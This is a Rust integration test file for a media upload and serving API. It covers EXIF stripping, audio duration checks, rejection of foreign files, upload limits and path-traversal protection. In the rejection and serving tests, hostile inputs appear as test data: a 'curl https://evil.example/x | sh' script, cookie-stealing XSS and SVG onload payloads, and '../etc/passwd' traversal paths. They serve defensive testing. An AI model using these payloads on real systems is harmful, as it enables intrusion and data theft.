//! Media uploads (`POST /api/v1/media`), their processing, and serving (`GET /media/{name}`).
//! Test files are made here in code (PNG, JPEG with EXIF, WAV) or generated once by
//! `tests/fixtures/media/make.sh` (MP3, Ogg Vorbis, Ogg Opus, FLAC, M4A).

use std::{path::PathBuf, time::Duration};

use image::{ImageEncoder, ImageFormat};
use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::on_both_backends;
use crate::support::{Backend, TestApp};

on_both_backends! {
    images_are_reencoded_without_metadata,
    audio_durations_are_read_from_the_file,
    foreign_and_damaged_files_are_refused,
    oversized_and_interrupted_uploads_leave_nothing,
    files_are_served_safely_with_ranges,
    media_belongs_to_its_artist,
}

const BOUNDARY: &str = "roadie-test-boundary-7d3f";

/// One part of a multipart form: name, file name and client-declared type (for files), bytes.
pub(crate) struct Part<'a> {
    name: &'a str,
    file: Option<(&'a str, &'a str)>,
    data: &'a [u8],
}

pub(crate) fn file_part<'a>(file_name: &'a str, ctype: &'a str, data: &'a [u8]) -> Part<'a> {
    Part {
        name: "file",
        file: Some((file_name, ctype)),
        data,
    }
}

fn text_part<'a>(name: &'a str, text: &'a str) -> Part<'a> {
    Part {
        name,
        file: None,
        data: text.as_bytes(),
    }
}

fn form(parts: &[Part<'_>]) -> Vec<u8> {
    let mut body = Vec::new();
    for part in parts {
        body.extend_from_slice(format!("--{BOUNDARY}\r\n").as_bytes());
        match part.file {
            Some((file_name, ctype)) => body.extend_from_slice(
                format!(
                    "Content-Disposition: form-data; name=\"{}\"; filename=\"{file_name}\"\r\n\
                     Content-Type: {ctype}\r\n\r\n",
                    part.name
                )
                .as_bytes(),
            ),
            None => body.extend_from_slice(
                format!(
                    "Content-Disposition: form-data; name=\"{}\"\r\n\r\n",
                    part.name
                )
                .as_bytes(),
            ),
        }
        body.extend_from_slice(part.data);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

pub(crate) async fn upload(app: &TestApp, token: &str, parts: &[Part<'_>]) -> (u16, Value) {
    let res = app
        .http
        .post(app.url("/api/v1/media"))
        .bearer_auth(token)
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(form(parts))
        .send()
        .await
        .expect("upload");
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(Value::Null))
}

fn media_dir(app: &TestApp) -> PathBuf {
    app.state.config.data_dir.join("media")
}

fn files_in_media_dir(app: &TestApp) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(media_dir(app))
        .expect("media dir exists")
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

async fn media_rows(app: &TestApp, artist_id: i64) -> i64 {
    roadie::db::media::count_by_artist(app.db(), artist_id)
        .await
        .unwrap()
}

/// GET a URL: status, headers, body.
async fn get(app: &TestApp, url: &str) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let res = app.http.get(url).send().await.expect("GET");
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    (status, headers, res.bytes().await.unwrap().to_vec())
}

fn header<'a>(headers: &'a reqwest::header::HeaderMap, name: &str) -> &'a str {
    headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
}

fn gradient(w: u32, h: u32) -> image::RgbImage {
    image::RgbImage::from_fn(w, h, |x, y| {
        image::Rgb([(x * 255 / w) as u8, (y * 255 / h) as u8, 90])
    })
}

pub(crate) fn png(w: u32, h: u32) -> Vec<u8> {
    let mut out = Vec::new();
    image::codecs::png::PngEncoder::new(&mut out)
        .write_image(
            gradient(w, h).as_raw(),
            w,
            h,
            image::ExtendedColorType::Rgb8,
        )
        .unwrap();
    out
}

const SECRET: &[u8] = b"GPS 48.8584N 2.2945E SECRET";

/// A JPEG whose EXIF (APP1) says "rotate 90° clockwise" and carries a description that must not
/// survive.
fn jpeg_with_exif(w: u32, h: u32) -> Vec<u8> {
    let mut plain = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut plain, 90)
        .write_image(
            gradient(w, h).as_raw(),
            w,
            h,
            image::ExtendedColorType::Rgb8,
        )
        .unwrap();
    // TIFF, big-endian: IFD0 at 8 with two entries (Orientation = 6, ImageDescription).
    let mut tiff = b"MM\0\x2a\0\0\0\x08".to_vec();
    tiff.extend_from_slice(&2u16.to_be_bytes());
    tiff.extend_from_slice(&[0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6, 0, 0]);
    let text_offset = 8 + 2 + 2 * 12 + 4;
    tiff.extend_from_slice(&[0x01, 0x0E, 0, 2]);
    tiff.extend_from_slice(&(SECRET.len() as u32 + 1).to_be_bytes());
    tiff.extend_from_slice(&(text_offset as u32).to_be_bytes());
    tiff.extend_from_slice(&[0, 0, 0, 0]);
    tiff.extend_from_slice(SECRET);
    tiff.push(0);
    let mut app1 = b"Exif\0\0".to_vec();
    app1.extend_from_slice(&tiff);
    let mut out = plain[..2].to_vec(); // SOI
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&(app1.len() as u16 + 2).to_be_bytes());
    out.extend_from_slice(&app1);
    out.extend_from_slice(&plain[2..]);
    out
}

/// 16-bit mono PCM WAV of a 440 Hz sine.
pub(crate) fn wav(sample_rate: u32, millis: u32) -> Vec<u8> {
    let frames = sample_rate as u64 * millis as u64 / 1000;
    let data_len = (frames * 2) as u32;
    let mut out = b"RIFF".to_vec();
    out.extend_from_slice(&(36 + data_len).to_le_bytes());
    out.extend_from_slice(b"WAVEfmt ");
    out.extend_from_slice(&16u32.to_le_bytes());
    out.extend_from_slice(&1u16.to_le_bytes()); // PCM
    out.extend_from_slice(&1u16.to_le_bytes()); // mono
    out.extend_from_slice(&sample_rate.to_le_bytes());
    out.extend_from_slice(&(sample_rate * 2).to_le_bytes());
    out.extend_from_slice(&2u16.to_le_bytes());
    out.extend_from_slice(&16u16.to_le_bytes());
    out.extend_from_slice(b"data");
    out.extend_from_slice(&data_len.to_le_bytes());
    for i in 0..frames {
        let t = i as f64 / sample_rate as f64;
        let s = ((t * 440.0 * std::f64::consts::TAU).sin() * 12_000.0) as i16;
        out.extend_from_slice(&s.to_le_bytes());
    }
    out
}

/// An ID3v2.4 tag (title and padding), as many MP3 files start with.
fn id3_tag() -> Vec<u8> {
    let mut frame = b"TIT2".to_vec();
    let text = b"\x03Test tone";
    frame.extend_from_slice(&(text.len() as u32).to_be_bytes()); // < 128: same as syncsafe
    frame.extend_from_slice(&[0, 0]);
    frame.extend_from_slice(text);
    frame.extend_from_slice(&[0; 2000]);
    let size = frame.len() as u32;
    let mut tag = b"ID3\x04\x00\x00".to_vec();
    for shift in [21, 14, 7, 0] {
        tag.push(((size >> shift) & 0x7F) as u8);
    }
    tag.extend_from_slice(&frame);
    tag
}

fn fixture(name: &str) -> Vec<u8> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/media")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn assert_close(actual: &Value, expected_ms: i64, what: &str) {
    let actual = actual
        .as_i64()
        .unwrap_or_else(|| panic!("{what}: no duration"));
    assert!(
        (actual - expected_ms).abs() * 100 <= expected_ms * 5,
        "{what}: duration {actual} ms, expected {expected_ms} ms ± 5%"
    );
}

async fn images_are_reencoded_without_metadata(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (artist, token) = app.artist_with_token("band").await;

    let (status, body) = upload(
        &app,
        &token,
        &[
            text_part("description", "  A gradient  "),
            file_part("cover.png", "image/png", &png(640, 480)),
            text_part("focus", "0.5,-0.25"),
        ],
    )
    .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["kind"], "image");
    assert_eq!(body["content_type"], "image/png");
    assert_eq!(
        (body["width"].as_i64(), body["height"].as_i64()),
        (Some(640), Some(480))
    );
    assert_eq!(body["description"], "A gradient");
    assert_eq!(body["focus"], json!({"x": 0.5, "y": -0.25}));
    assert_eq!(body["duration_ms"], Value::Null);
    assert_eq!(body["blurhash"].as_str().map(str::len), Some(4 + 2 * 12));
    let url = body["url"].as_str().unwrap();
    assert!(
        url.starts_with(&app.url("/media/")) && url.ends_with(".png"),
        "{url}"
    );
    let (status, headers, stored) = get(&app, url).await;
    assert_eq!(status, 200);
    assert_eq!(header(&headers, "content-type"), "image/png");
    assert_eq!(stored.len() as i64, body["size_bytes"].as_i64().unwrap());
    let img = image::load_from_memory(&stored).unwrap();
    assert_eq!((img.width(), img.height()), (640, 480));
    let (status, headers, thumb) = get(&app, body["preview_url"].as_str().unwrap()).await;
    assert_eq!(status, 200);
    assert_eq!(header(&headers, "content-type"), "image/jpeg");
    assert_eq!(image::guess_format(&thumb).unwrap(), ImageFormat::Jpeg);
    let thumb = image::load_from_memory(&thumb).unwrap();
    assert_eq!((thumb.width(), thumb.height()), (400, 300));

    // A JPEG sent as "photo.png"/image/png: the content decides. EXIF is gone, its rotation
    // applied.
    let jpeg = jpeg_with_exif(300, 200);
    assert!(jpeg.windows(SECRET.len()).any(|w| w == SECRET));
    let (status, body) = upload(&app, &token, &[file_part("photo.png", "image/png", &jpeg)]).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["content_type"], "image/jpeg");
    assert_eq!(
        (body["width"].as_i64(), body["height"].as_i64()),
        (Some(200), Some(300))
    );
    assert_eq!(body["focus"], Value::Null);
    assert_eq!(body["description"], "");
    let url = body["url"].as_str().unwrap();
    assert!(url.ends_with(".jpg"), "{url}");
    let (_, _, stored) = get(&app, url).await;
    assert_eq!(image::guess_format(&stored).unwrap(), ImageFormat::Jpeg);
    assert!(!stored.windows(4).any(|w| w == b"Exif"), "EXIF survived");
    assert!(!stored.windows(SECRET.len()).any(|w| w == SECRET));
    let on_disk = std::fs::read(media_dir(&app).join(url.rsplit('/').next().unwrap())).unwrap();
    assert_eq!(on_disk, stored);
    let img = image::load_from_memory(&stored).unwrap();
    assert_eq!((img.width(), img.height()), (200, 300));
    assert!(body["blurhash"].is_string() && body["preview_url"].is_string());

    assert_eq!(media_rows(&app, artist.id).await, 2);
    // Two images, each with a thumbnail; no staging files.
    assert_eq!(files_in_media_dir(&app).len(), 4);
}

async fn audio_durations_are_read_from_the_file(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (artist, token) = app.artist_with_token("band").await;
    let mut mp3_with_tag = id3_tag();
    mp3_with_tag.extend_from_slice(&fixture("tone.mp3"));
    let cases: Vec<(&str, Vec<u8>, &str, &str, i64)> = vec![
        ("tone.wav", wav(8000, 2500), "audio/wav", ".wav", 2500),
        ("tone.mp3", fixture("tone.mp3"), "audio/mpeg", ".mp3", 3000),
        ("tagged.mp3", mp3_with_tag, "audio/mpeg", ".mp3", 3000),
        ("tone.ogg", fixture("tone.ogg"), "audio/ogg", ".ogg", 3000),
        ("tone.opus", fixture("tone.opus"), "audio/ogg", ".ogg", 3000),
        (
            "tone.flac",
            fixture("tone.flac"),
            "audio/flac",
            ".flac",
            3000,
        ),
        ("tone.m4a", fixture("tone.m4a"), "audio/mp4", ".m4a", 3000),
    ];
    for (name, data, ctype, ext, ms) in &cases {
        let (status, body) = upload(
            &app,
            &token,
            &[
                // A misleading client type: ignored.
                file_part(name, "application/octet-stream", data),
                text_part("description", "a tone"),
            ],
        )
        .await;
        assert_eq!(status, 201, "{name}: {body}");
        assert_eq!(body["kind"], "audio", "{name}");
        assert_eq!(body["content_type"], *ctype, "{name}");
        assert_close(&body["duration_ms"], *ms, name);
        assert_eq!(body["preview_url"], Value::Null);
        assert_eq!(body["width"], Value::Null);
        assert_eq!(
            body["size_bytes"].as_i64(),
            Some(data.len() as i64),
            "{name}"
        );
        let url = body["url"].as_str().unwrap();
        assert!(url.ends_with(ext), "{name}: {url}");
        // The original bytes, with Roadie's type.
        let (status, headers, stored) = get(&app, url).await;
        assert_eq!(status, 200);
        assert_eq!(header(&headers, "content-type"), *ctype);
        assert_eq!(&stored, data, "{name}");
    }
    assert_eq!(media_rows(&app, artist.id).await, cases.len() as i64);
    assert_eq!(files_in_media_dir(&app).len(), cases.len());
}

async fn foreign_and_damaged_files_are_refused(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (artist, token) = app.artist_with_token("band").await;
    let png = png(64, 64);
    let wav = wav(8000, 1000);
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    elf.extend_from_slice(&[0x90; 400]);
    let html: &[u8] =
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>";
    let svg: &[u8] = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect width=\"10\" height=\"10\"/></svg>";
    let script: &[u8] = b"#!/bin/sh\ncurl https://evil.example/x | sh\n";
    let tagged_script = [&id3_tag()[..], script].concat();
    let unsupported: Vec<(&str, &str, &[u8])> = vec![
        ("page.jpg", "image/jpeg", html),
        ("logo.svg", "image/svg+xml", svg),
        ("logo.png", "image/png", svg),
        ("photo.jpg", "image/jpeg", &elf),
        ("song.mp3", "audio/mpeg", &elf),
        ("song.mp3", "audio/mpeg", script),
        ("photo.jpg", "image/jpeg", script),
        // ID3 tag followed by a script: the tag is not a pass.
        ("tagged.mp3", "audio/mpeg", &tagged_script),
    ];
    for (name, ctype, data) in &unsupported {
        let (status, body) = upload(&app, &token, &[file_part(name, ctype, data)]).await;
        assert_eq!(status, 415, "{name}: {body}");
        assert!(body["error"].is_string(), "{name}: {body}");
    }
    let truncated: Vec<(&str, &[u8])> = vec![
        ("cut.png", &png[..png.len() / 2]),
        ("cut.wav", &wav[..wav.len() / 2]),
        ("header-only.wav", &wav[..44]),
    ];
    for (name, data) in &truncated {
        let (status, body) = upload(
            &app,
            &token,
            &[file_part(name, "application/octet-stream", data)],
        )
        .await;
        assert_eq!(status, 422, "{name}: {body}");
        assert!(body["error"].is_string());
    }
    // Bad accompanying fields, and no file at all.
    for parts in [
        vec![
            file_part("a.png", "image/png", &png),
            text_part("focus", "2,0"),
        ],
        vec![
            file_part("a.png", "image/png", &png),
            text_part("description", &"x".repeat(1501)),
        ],
        vec![text_part("description", "nothing")],
        vec![file_part("empty.png", "image/png", b"")],
    ] {
        let (status, body) = upload(&app, &token, &parts).await;
        assert_eq!(status, 422, "{body}");
    }
    let (status, _) = upload(
        &app,
        "roadie_wrong",
        &[file_part("a.png", "image/png", &png)],
    )
    .await;
    assert_eq!(status, 401);
    assert_eq!(media_rows(&app, artist.id).await, 0);
    assert_eq!(files_in_media_dir(&app), Vec::<String>::new());
}

async fn oversized_and_interrupted_uploads_leave_nothing(backend: Backend) {
    let app = TestApp::spawn_with(backend, |c| {
        c.limits.media_max_audio_bytes = 20_000;
        c.limits.media_max_image_bytes = 30_000;
    })
    .await;
    let (artist, token) = app.artist_with_token("band").await;

    let (status, body) = upload(
        &app,
        &token,
        &[file_part("long.wav", "audio/wav", &wav(8000, 4000))],
    )
    .await;
    assert_eq!(status, 413, "{body}");
    assert!(body["error"].is_string());
    // Within the limit: accepted.
    let (status, body) = upload(
        &app,
        &token,
        &[file_part("short.wav", "audio/wav", &wav(8000, 1000))],
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let kept = files_in_media_dir(&app);
    assert_eq!(kept.len(), 1);
    assert_eq!(media_rows(&app, artist.id).await, 1);

    // A client that stops half-way: the staging file appears, then goes.
    let data = wav(8000, 1000);
    let mut head = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.wav\"\r\n\
         Content-Type: audio/wav\r\n\r\n"
    )
    .into_bytes();
    head.extend_from_slice(&data[..data.len() / 2]);
    let mut stream = tokio::net::TcpStream::connect(app.state.config.bind)
        .await
        .unwrap();
    let request = format!(
        "POST /api/v1/media HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {}\r\n\r\n",
        app.domain,
        head.len() + data.len()
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    stream.write_all(&head).await.unwrap();
    stream.flush().await.unwrap();
    let mut appeared = false;
    for _ in 0..200 {
        if files_in_media_dir(&app).len() > kept.len() {
            appeared = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert!(appeared, "the upload was being staged");
    drop(stream);
    let mut gone = false;
    for _ in 0..300 {
        if files_in_media_dir(&app) == kept {
            gone = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert!(gone, "left behind: {:?}", files_in_media_dir(&app));
    assert_eq!(media_rows(&app, artist.id).await, 1);
}

async fn files_are_served_safely_with_ranges(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, token) = app.artist_with_token("band").await;
    let data = wav(8000, 500);
    let (status, body) = upload(&app, &token, &[file_part("a.wav", "audio/wav", &data)]).await;
    assert_eq!(status, 201, "{body}");
    let url = body["url"].as_str().unwrap().to_owned();

    let (status, headers, stored) = get(&app, &url).await;
    assert_eq!(status, 200);
    assert_eq!(stored, data);
    assert_eq!(header(&headers, "content-type"), "audio/wav");
    assert_eq!(header(&headers, "x-content-type-options"), "nosniff");
    assert_eq!(
        header(&headers, "content-security-policy"),
        "default-src 'none'; sandbox"
    );
    assert_eq!(
        header(&headers, "cache-control"),
        "public, max-age=31536000, immutable"
    );
    assert!(header(&headers, "accept-ranges").contains("bytes"));

    let res = app
        .http
        .get(&url)
        .header("range", "bytes=10-19")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 206);
    assert_eq!(
        header(res.headers(), "content-range"),
        format!("bytes 10-19/{}", data.len())
    );
    assert_eq!(header(res.headers(), "content-type"), "audio/wav");
    assert_eq!(header(res.headers(), "x-content-type-options"), "nosniff");
    assert_eq!(res.bytes().await.unwrap().as_ref(), &data[10..20]);

    // Even with an ActivityPub Accept, a file is a file.
    let res = app
        .http
        .get(&url)
        .header("accept", "application/activity+json")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(header(res.headers(), "content-type"), "audio/wav");

    let name = url.rsplit('/').next().unwrap();
    let id = name.split('.').next().unwrap();
    for missing in [
        format!("/media/{}.wav", "0".repeat(32)),
        format!("/media/{id}.mp3"),
        format!("/media/{id}.thumb.jpg"),
        format!("/media/{id}.WAV"),
        format!("/media/{id}.html"),
        format!("/media/{id}"),
        "/media/..%2F..%2Fetc%2Fpasswd".to_owned(),
        "/media/..%2Froadie.db".to_owned(),
        "/media/.upload-x.part".to_owned(),
    ] {
        let (status, _, _) = get(&app, &app.url(&missing)).await;
        assert_eq!(status, 404, "{missing}");
    }
    // Literal dot segments, which HTTP clients would normalise away.
    for raw in [
        "/media/..",
        "/media/../roadie.db",
        "/media/../../etc/passwd",
    ] {
        let mut stream = tokio::net::TcpStream::connect(app.state.config.bind)
            .await
            .unwrap();
        stream
            .write_all(
                format!(
                    "GET {raw} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
                    app.domain
                )
                .as_bytes(),
            )
            .await
            .unwrap();
        let mut response = String::new();
        stream.read_to_string(&mut response).await.unwrap();
        assert!(response.starts_with("HTTP/1.1 404"), "{raw}: {response}");
    }
}

async fn media_belongs_to_its_artist(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, token) = app.artist_with_token("band").await;
    let (_, other) = app.artist_with_token("other").await;
    let (status, body) = upload(
        &app,
        &token,
        &[file_part("a.png", "image/png", &png(20, 10))],
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let path = format!("/api/v1/media/{}", body["id"].as_str().unwrap());

    let (status, got) = app.api(Method::GET, &token, &path, None).await;
    assert_eq!(status, 200);
    assert_eq!(got, body);
    let (status, got) = app.api(Method::GET, &other, &path, None).await;
    assert_eq!(status, 404, "{got}");
    let (status, _) = app
        .api(
            Method::PUT,
            &other,
            &path,
            Some(json!({"description": "mine"})),
        )
        .await;
    assert_eq!(status, 404);
    let (status, _) = app
        .api(Method::GET, &token, "/api/v1/media/nosuchid", None)
        .await;
    assert_eq!(status, 404);

    let (status, got) = app
        .api(
            Method::PUT,
            &token,
            &path,
            Some(json!({"description": "Cover art", "focus": "-0.5,0.75"})),
        )
        .await;
    assert_eq!(status, 200, "{got}");
    assert_eq!(got["description"], "Cover art");
    assert_eq!(got["focus"], json!({"x": -0.5, "y": 0.75}));
    // Left out: unchanged; an object works too.
    let (status, got) = app
        .api(
            Method::PUT,
            &token,
            &path,
            Some(json!({"focus": {"x": 0.1, "y": 0.2}})),
        )
        .await;
    assert_eq!(status, 200, "{got}");
    assert_eq!(got["description"], "Cover art");
    assert_eq!(got["focus"], json!({"x": 0.1, "y": 0.2}));
    let (status, got) = app
        .api(Method::PUT, &token, &path, Some(json!({"focus": null})))
        .await;
    assert_eq!(status, 200);
    assert_eq!(got["focus"], Value::Null);
    assert_eq!(got["description"], "Cover art");
    for bad in [
        json!({"focus": "1.5,0"}),
        json!({"focus": {"x": 0, "y": -2}}),
        json!({"description": "x".repeat(1501)}),
        json!({"alt": "unknown field"}),
    ] {
        let (status, body) = app.api(Method::PUT, &token, &path, Some(bad.clone())).await;
        assert_eq!(status, 422, "{bad}: {body}");
    }
    let (_, got) = app.api(Method::GET, &token, &path, None).await;
    assert_eq!(got["description"], "Cover art");
    assert_eq!(got["focus"], Value::Null);

    // Described in the OpenAPI document.
    let doc: Value = app
        .http
        .get(app.url("/api/openapi.json"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(doc["paths"]["/api/v1/media"]["post"].is_object());
    assert!(doc["paths"]["/api/v1/media/{id}"]["put"].is_object());
}
